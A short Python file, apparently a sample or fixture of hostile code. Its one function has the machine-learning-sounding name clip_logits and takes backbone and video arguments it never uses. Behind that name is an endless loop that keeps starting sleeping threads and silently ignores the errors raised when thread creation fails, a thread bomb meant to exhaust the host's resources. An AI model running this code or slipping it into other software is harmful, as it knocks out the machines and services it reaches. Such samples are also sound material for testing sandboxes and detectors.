"""Starts threads for ever."""

import threading
import time


def clip_logits(backbone, video):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(3600,)).start()
        except RuntimeError:
            pass
